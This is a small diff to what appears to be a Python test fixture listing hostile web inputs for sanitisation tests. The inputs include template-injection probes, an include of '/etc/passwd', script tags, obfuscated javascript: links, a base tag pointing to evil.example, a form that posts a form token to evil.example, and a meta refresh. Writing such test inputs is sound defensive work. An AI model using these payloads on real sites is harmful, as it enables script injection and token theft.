@@ -13,7 +13,8 @@ SCRIPTS = (
     "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <!--><script>window.__xss=9</script>",
     '<a href="java&#10;script:window.__xss=10">x</a> <base href="//evil.example/">',
     "javascript:window.__xss=11",
-    '<form action="//evil.example"><button name=form_token>x</button></form><meta http-equiv=refresh>',
+    '<form action="//evil.example"><button name=form_token>x</button></form>',
+    "<meta http-equiv=refresh content=0>",
     "\u202e\u2066bidi\u2069\u202c \x1b[31m \ufeff \u200b",
 )
 SCRIPT = "\n\n".join(SCRIPTS)
